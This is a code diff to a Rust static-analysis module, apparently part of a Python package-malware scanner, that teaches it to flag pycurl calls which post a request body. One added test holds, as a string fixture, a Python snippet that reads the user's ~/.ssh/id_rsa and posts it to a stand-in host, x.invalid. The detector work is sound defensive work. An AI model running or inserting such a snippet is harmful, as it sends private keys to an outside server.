@@ -91,6 +91,10 @@ pub fn classify(qualname: &str) -> Option<NetOp> {
             NetOp::Send
         }
         "dropbox.Dropbox()" if last.starts_with("files_upload") => NetOp::Send,
+        // libcurl's body options: what `setopt(POSTFIELDS, data)` is given is posted by
+        // `perform()` (other options are told apart in `check_call`).
+        "pycurl.Curl()" if last == "setopt" => NetOp::Send,
+        "pycurl.Curl()" if last == "perform" => NetOp::Fetch,
         "discord_webhook.DiscordWebhook()" if last == "execute" => NetOp::Send,
         "dhooks.Webhook()" if last == "send" => NetOp::Send,
         // Cloning a repository downloads code as surely as an HTTP GET.
@@ -114,6 +118,27 @@ pub fn classify(qualname: &str) -> Option<NetOp> {
         _ => return None,
     };
     Some(op)
+}
+
+/// `curl.setopt(pycurl.POSTFIELDS, data)` and the other options that give libcurl a body to
+/// send; `setopt(pycurl.URL, …)` and the rest only configure the request.
+fn sets_curl_body(checker: &Checker, call: &ExprCall) -> bool {
+    call.arguments
+        .args
+        .first()
+        .and_then(|option| checker.qualname(option))
+        .is_some_and(|option| {
+            let name = option.rsplit('.').next().unwrap_or(&option);
+            matches!(
+                name,
+                "POSTFIELDS"
+                    | "COPYPOSTFIELDS"
+                    | "HTTPPOST"
+                    | "MIMEPOST"
+                    | "READDATA"
+                    | "READFUNCTION"
+            )
+        })
 }
 
 /// True when a partially folded URL names its host literally (`"http://x.example/" + data`).
@@ -176,6 +201,9 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let Some(mut op) = classify(qualname) else {
         return;
     };
+    if qualname == "pycurl.Curl().setopt" && !sets_curl_body(checker, call) {
+        return;
+    }
     if op == NetOp::Fetch
         && qualname.ends_with(".request")
         && is_generic_request(call)
@@ -411,6 +439,14 @@ mod tests {
             "WH130",
         );
         assert!(computed < constant, "{computed} {constant}");
+    }
+
+    #[test]
+    fn a_curl_handle_given_a_body_sends_it() {
+        let code = "import os, pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://x.invalid/c')\nc.setopt(pycurl.POSTFIELDS, open(os.path.expanduser('~/.ssh/id_rsa')).read())\nc.perform()\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
+        let fetch = "import pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://x.invalid/c')\nc.setopt(pycurl.TIMEOUT, 10)\n";
+        assert!(max_severity("p/pkg/__init__.py", fetch, "WH130") < 0.1);
     }
 
     #[test]
